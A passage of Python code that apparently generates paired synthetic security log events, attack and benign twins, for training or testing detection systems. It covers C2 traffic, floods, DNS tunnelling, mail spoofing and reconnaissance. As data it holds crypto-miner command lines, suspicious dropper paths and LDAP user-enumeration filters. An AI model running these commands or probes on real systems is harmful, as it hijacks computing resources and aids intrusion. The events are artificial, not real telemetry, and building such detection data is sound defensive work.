    "/tmp/{w}.sh", "/var/www/uploads/{w}.php", "C:\\Users\\{p}\\AppData\\Local\\Temp\\{w}.dll",
    "/srv/share/{w}/scan_{n}.docm", "attachment {w}_{n}.zip", "/var/spool/mail/{w}/{n}",
    "C:\\ProgramData\\{w}\\update.exe", "/home/{p}/{w}.xlsm", "http://{site}/{w}.js",
    "/usr/local/bin/{w}", "\\\\fileserver\\public\\{w}.lnk",
)
_C2_SIGNATURES = ("CobaltStrike.Beacon", "Botnet C&C", "Malware Call-Home", "Trojan.Emotet C2",
                  "Sliver C2", "Command and Control", "Malicious Sites", "Mirai botnet C2",
                  "njRAT C2 traffic", "Known C2 Server", "Beaconing Activity", "Malware")
_SITE_CATEGORIES = ("Business", "News", "Software Updates", "Search Engines", "CDN",
                    "Cloud Services", "Web Mail", "Social Networking", "Technology",
                    "Education", "Shopping", "Streaming Media", "Finance")
_MINERS = (
    "xmrig -o pool.supportxmr.com:3333 -u 4{h} -p x", "/tmp/.x/kdevtmpfsi", "/tmp/kinsing",
    "./xmr-stak --noTest", "minerd -a cryptonight -o stratum+tcp://{w}.pool:4444",
    "/dev/shm/.{w}/systemd-worker --donate-level 1", "nanominer -config /tmp/c.ini",
    "/var/tmp/.{w}/xmrig --cpu-max-threads-hint=75",
)
_MINER_SIGNATURES = ("CoinMiner.XMRig", "Trojan.Linux.Miner", "PUA.Miner.Generic",
                     "Linux.Kinsing", "Riskware.BitCoinMiner", "Trojan:Linux/CoinMiner")


def _filescan(
    c: Ctx, category: str, outcome: str, threats: tuple[str, ...], path: str, clean: str
) -> Pair:
    """A scanner's verdict on ``path``; the twin is its verdict on ``clean``."""
    attack = Event(
        FILESCAN, outcome, category, obj=path, tool=c.pick(_ENGINES),
        signature=_expand(c, c.pick(threats)), user=_maybe(c, 0.4, person(c.rng)),
        dst=_maybe(c, 0.4, hostname(c.rng)),
    )
    return _twin(attack, "scan_clean", signature=c.pick(NO_THREAT), obj=clean)


def malware_c2(c: Ctx) -> Pair:
    r = c.rng.random()
    if r < 0.45:
        # The same file, clean: only the verdict differs.
        path = _fill_web(c, _expand(c, c.pick(_SCANNED)))
        outcome = c.pick(("infected", "infected", "quarantined"))
        return _filescan(c, "malware_c2", outcome, _THREATS, path, path)
    if r < 0.85:
        evil = evil_host(c.rng)
        attack = Event(
            OUTBOUND, c.pick(("c2_blocked", "c2_blocked", "c2_detected")), "malware_c2",
            src=ip_private(c.rng), dst=ip_public(c.rng),
            dport=c.pick(("443", "80", "8080", "4444", "53", "8443")),
            obj=c.pick((evil, f"http://{evil}/{word(c.rng)}",
                        f"https://{evil}/api/{_n(c, 1, 99)}")),
            signature=c.pick(_C2_SIGNATURES),
            tool=_maybe(c, 0.3, c.pick(_READERS[c.chance(0.5)])),
        )
        ordinary = c.pick((fqdn(c.rng), f"https://{fqdn(c.rng)}/{word(c.rng)}"))
        return _twin(attack, "outbound_allowed", obj=ordinary, signature=c.pick(_SITE_CATEGORIES))
    command = _expand(c, c.pick(_MINERS)).replace("{h}", f"{c.rng.getrandbits(180):045x}")
    attack = Event(PROCESS, "miner_detected", "malware_c2", user=c.pick(SERVICE_USERS),
                   tool=command.split(" ", 1)[0], payload=command,
                   signature=c.pick(_MINER_SIGNATURES), dst=_maybe(c, 0.4, hostname(c.rng)))
    ordinary = _expand(c, c.pick(_ORDINARY_COMMANDS[False]))
    return _twin(attack, "process_start", tool=ordinary.split(" ", 1)[0], payload=ordinary,
                 signature=c.pick(NO_THREAT))


# --- dos -----------------------------------------------------------------------------

_FLOODS = ("TCP SYN Flood", "UDP Flood", "ICMP Flood", "HTTP GET Flood", "DNS Amplification",
           "NTP Reflection", "ACK Flood", "Slowloris", "Connection Flood", "HTTP POST Flood",
           "SSDP Reflection", "Memcached Amplification")
_STATS = ("Traffic Summary", "Interface Stats", "Rate Monitor", "QoS Report",
          "Session Statistics", "Bandwidth Report", "Load Report", "Throughput Sample")


def dos(c: Ctx) -> Pair:
    outcome = c.pick(("flood", "flood", "rate_limited", "conn_limit", "slow_attack"))
    attack = Event(
        TRAFFIC, outcome, "dos", src=c.pick((ip_any(c.rng), "multiple", "0.0.0.0/0")),
        dst=c.pick((ip_private(c.rng), ip_public(c.rng), fqdn(c.rng))),
        dport=str(c.pick((80, 443, 53, 25, 22, 8080, 123, 5060))),
        proto=c.pick(("TCP", "UDP", "HTTP", "ICMP", "tcp")), rate=_n(c, 2000, 900000),
        count=_maybe(c, 0.5, _n(c, 100, 90000)), signature=c.pick(_FLOODS),
    )
    return _twin(attack, c.pick(("traffic_stats", "traffic_within")), rate=_n(c, 1, 5000),
                 signature=c.pick(_STATS), **({"count": _n(c, 1, 900)} if attack.count else {}))


# --- dns_exfiltration ----------------------------------------------------------------

_TUNNEL_SIGNATURES = ("DNS Tunnel", "iodine", "dnscat2", "DNS.Exfiltration",
                      "High Entropy Domain", "DNSCat.Tunnel", "DNS Data Exfiltration",
                      "Suspicious Long Query", "DNS Tunneling Tool")


def dns_exfiltration(c: Ctx) -> Pair:
    qtype = c.pick(("A", "TXT", "TXT", "NULL", "CNAME", "MX", "AAAA"))
    attack = Event(
        DNS, "dns_query", "dns_exfiltration", src=ip_private(c.rng), obj=exfil_name(c),
        method=qtype, status=c.pick(("NOERROR", "NXDOMAIN", "NOERROR", "SERVFAIL")),
        dst=_maybe(c, 0.4, c.pick(("8.8.8.8", "1.1.1.1", ip_private(c.rng), hostname(c.rng)))),
        sport=_maybe(c, 0.4, str(port(c.rng))),
    )
    if c.chance(0.3):
        attack = replace(attack, outcome="dns_tunnel_detected",
                         signature=c.pick(_TUNNEL_SIGNATURES))
    changes = {"obj": benign_name(c.rng)}
    if attack.signature:
        changes["signature"] = c.pick(NO_THREAT)
    return _twin(attack, "dns_query", **changes)


# --- mail_abuse ----------------------------------------------------------------------

_MAIL_PASS = ("SPF pass", "spf=pass dkim=pass", "dmarc=pass", "none", "DKIM verified",
              "spf=pass", "pass", "-")
_MAIL_SPOOF = ("SPF fail", "dmarc=fail (p=reject)", "spf=fail", "DMARC reject",
               "spf=fail dkim=none", "SPF hardfail", "dmarc=fail")


def mail_abuse(c: Ctx) -> Pair:
    local = domain(c.rng)
    outcome = c.pick(("relay_denied", "spoofed", "spam_run", "rbl_reject"))
    recipient = email(c.rng)
    sender = email(c.rng)
    signature = c.pick(_MAIL_PASS)
    if outcome == "spoofed":
        sender = f"{c.pick(('ceo', 'finance', 'it', 'payroll', 'admin', person(c.rng)))}@{local}"
        recipient = f"{person(c.rng)}@{local}"
        signature = c.pick(_MAIL_SPOOF)
    elif outcome == "rbl_reject":
        signature = c.pick(RBLS)
    count = _n(c, 50, 20000) if outcome == "spam_run" else _maybe(c, 0.3, _n(c, 1, 9))
    attack = Event(
        MAIL, outcome, "mail_abuse", src=ip_public(c.rng), user=sender, obj=recipient,
        dst=c.pick((f"mail.{local}", f"mx{_n(c, 1, 4)}.{local}", hostname(c.rng))),
        method=c.pick(("RCPT", "MAIL FROM", "DATA", "RCPT TO", "END-OF-MESSAGE")),
        status=c.pick(("554", "550", "451", "553", "5.7.1", "5.7.26")), signature=signature,
        count=count,
    )
    return _twin(
        attack, c.pick(("mail_delivered", "mail_delivered", "mail_queued", "mail_deferred")),
        obj=f"{person(c.rng)}@{local}", status=c.pick(("250", "2.0.0", "250 OK", "2.6.0")),
        signature=c.pick(_MAIL_PASS), **({"count": _n(c, 1, 5)} if count else {}),
    )


# --- recon ---------------------------------------------------------------------------


# Probes and the ordinary request of the same protocol a monitoring host or client makes.
_VERSION_PROBES = (
    ("CHAOS TXT", "version.bind", "A", "{fqdn}"), ("CHAOS TXT", "hostname.bind", "AAAA", "{fqdn}"),
    ("SNMP get", "sysDescr.0 community public", "SNMP get", "sysUpTime.0"),
    ("SNMP get", "community private", "SNMP walk", "ifTable"),
    ("banner grab", "SSH-2.0 version", "SSH session", "publickey auth"),
    ("HTTP OPTIONS", "Server header", "HTTP GET", "/healthz"),
    ("NTP monlist", "monlist", "NTP query", "time sync"),
    ("SMB negotiate", "OS version", "SMB tree connect", "\\\\fileserver\\projects"),
)
# SMTP verbs that only probe for users; a real delivery asks with RCPT TO.
_PROBE_VERBS = {"VRFY": "RCPT TO", "EXPN": "RCPT TO", "finger": "user lookup"}


def recon(c: Ctx) -> Pair:
    outcome = c.pick(("user_enum", "user_enum", "axfr_refused", "version_probe"))
    src = ip_any(c.rng)
    if outcome == "user_enum":
        if c.chance(0.3):
            method = c.pick(("LDAP search", "ldapsearch", "LDAP query"))
            obj = c.pick(("(objectClass=user)", "(uid=*)", "(objectClass=*)",
                          "(&(objectCategory=person)(sAMAccountName=*))"))
            benign_obj = f"(uid={person(c.rng)})"
        else:
            method = c.pick(("VRFY", "EXPN", "RCPT TO", "Kerberos AS-REQ", "finger",
                             "GET /api/users/exists", "SMB user lookup", "user lookup"))
            obj = c.pick((guessed_user(c.rng), c.pick(FIRST)))
            benign_obj = person(c.rng)
        benign_method = _PROBE_VERBS.get(method, method)
        benign_outcome = "lookup_ok"
    elif outcome == "axfr_refused":
        method = benign_method = c.pick(("AXFR", "IXFR", "zone transfer"))
        obj = benign_obj = c.pick((domain(c.rng), f"corp.{domain(c.rng)}", "internal.lan"))
        benign_outcome = "axfr_ok"
    else:
        method, obj, benign_method, benign_obj = c.pick(_VERSION_PROBES)
        benign_obj = benign_obj.replace("{fqdn}", fqdn(c.rng))
        benign_outcome = "lookup_ok"
    if benign_outcome == "lookup_ok" and c.chance(0.2):  # one miss is a typo, not a probe
        benign_outcome = "lookup_miss"
    count = _n(c, 20, 3000) if outcome == "user_enum" and c.chance(0.6) else None
    count = count or _maybe(c, 0.3, _n(c, 1, 9))
    attack = Event(
        LOOKUP, outcome, "recon", src=src, dst=hostname(c.rng), method=method, obj=obj,
        status=c.pick(("REFUSED", "denied", "NOTAUTH", "550", "not found", "252", "-")),
        count=count,
    )
    misses = ("NXDOMAIN", "not found", "550", "-")
    answers = ("NOERROR", "ok", "250", "success", "found")
    return _twin(attack, benign_outcome, obj=benign_obj, src=ip_private(c.rng),
                 method=benign_method,
                 status=c.pick(misses if benign_outcome == "lookup_miss" else answers),
                 **({"count": _n(c, 1, 3)} if count else {}))


MAKERS: dict[str, Maker] = {
    "brute_force": brute_force,
    "privilege_escalation": privilege_escalation,
    "credential_access": credential_access,
    "network_scan": network_scan,
    "web_scan": web_scan,
    "web_exploit": web_exploit,
    "webshell": webshell,
    "malware_c2": malware_c2,
    "dos": dos,
    "dns_exfiltration": dns_exfiltration,
    "mail_abuse": mail_abuse,
    "recon": recon,
}


def pair(c: Ctx, category: str) -> Pair:
    return MAKERS[category](c)

